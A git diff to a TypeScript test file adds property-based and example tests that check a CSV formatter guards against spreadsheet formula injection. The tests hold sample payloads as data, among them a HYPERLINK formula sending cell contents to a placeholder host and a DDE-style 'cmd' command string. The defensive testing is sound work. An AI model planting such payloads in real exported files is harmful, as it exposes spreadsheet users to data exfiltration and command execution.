@@ -1,6 +1,6 @@
 import fc from "fast-check"
 import { describe, expect, it } from "vitest"
-import { formatCsv, parseCsv } from "../../src/domain/Csv.js"
+import { formatCsv, neutraliseCsvCell, parseCsv, restoreCsvCell } from "../../src/domain/Csv.js"
 
 describe("parseCsv", () => {
   it("reads quoted fields with commas, quotes and newlines, keeping each record's first line", () => {
@@ -34,7 +34,7 @@ describe("parseCsv", () => {
   })
 
   it("round-trips any table through formatCsv", () => {
-    const cell = fc.string({ unit: fc.constantFrom("a", "é", ",", '"', "\n", "\r\n", " ", "ب", "1") })
+    const cell = fc.string({ unit: fc.constantFrom("a", "é", ",", '"', "\n", "\r\n", " ", "ب", "1", "=", "+", "-", "@", "\t", "\r", "'", ".") })
     fc.assert(
       fc.property(fc.integer({ min: 1, max: 5 }).chain((n) => fc.tuple(fc.array(cell, { minLength: n, maxLength: n }), fc.array(fc.array(cell, { minLength: n, maxLength: n }), { maxLength: 8 }))), ([header, rows]) => {
         // a record whose every cell is empty is a blank line; it has no place in a registry file
@@ -43,9 +43,34 @@ describe("parseCsv", () => {
         fc.pre(headerOk)
         const parsed = parseCsv(formatCsv(header, kept))
         expect(parsed.problems).toEqual([])
-        expect(parsed.records.map((r) => r.fields)).toEqual([header, ...kept])
+        expect(parsed.records.map((r) => r.fields.map(restoreCsvCell))).toEqual([header, ...kept])
       }),
       { numRuns: 300 }
+    )
+  })
+})
+
+describe("formula injection (OWASP CSV injection)", () => {
+  it("puts an apostrophe before a cell that starts with = + - @, a tab or a CR", () => {
+    expect(formatCsv(["answer"], [['=HYPERLINK("http://x.example/?"&A1,"click me")'], ["+cmd|' /C calc'!A0"], ["@SUM(1+1)"], ["-1+2"], ["\tx"], ["\rx"]])).toBe(
+      'answer\n"\'=HYPERLINK(""http://x.example/?""&A1,""click me"")"\n\'+cmd|\' /C calc\'!A0\n\'@SUM(1+1)\n\'-1+2\n\'\tx\n"\'\rx"\n'
+    )
+  })
+
+  it("leaves plain numbers as numbers, and other text alone", () => {
+    for (const v of ["-2", "-0.5", "+3", "-.5", "-1e3", "12", "+05:45", "-03:00", "Dakar", "a=b", "'tis", ""]) expect(neutraliseCsvCell(v)).toBe(v)
+    for (const v of ["-", "--2", "-2-", "- 2", "+1+1", "@", "+05:45+1", "-1:00"]) expect(neutraliseCsvCell(v)).toBe(`'${v}`)
+  })
+
+  it("is undone exactly by restoreCsvCell, apostrophes included", () => {
+    fc.assert(
+      fc.property(fc.string({ unit: fc.constantFrom("'", "=", "-", "+", "@", "\t", "\r", "1", ".", "a") }), (v) => {
+        const cell = neutraliseCsvCell(v)
+        expect(cell).not.toMatch(/^[=@\t\r]/)
+        if (/^[+-]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true)
+        expect(restoreCsvCell(cell)).toBe(v)
+      }),
+      { numRuns: 2000 }
     )
   })
 })
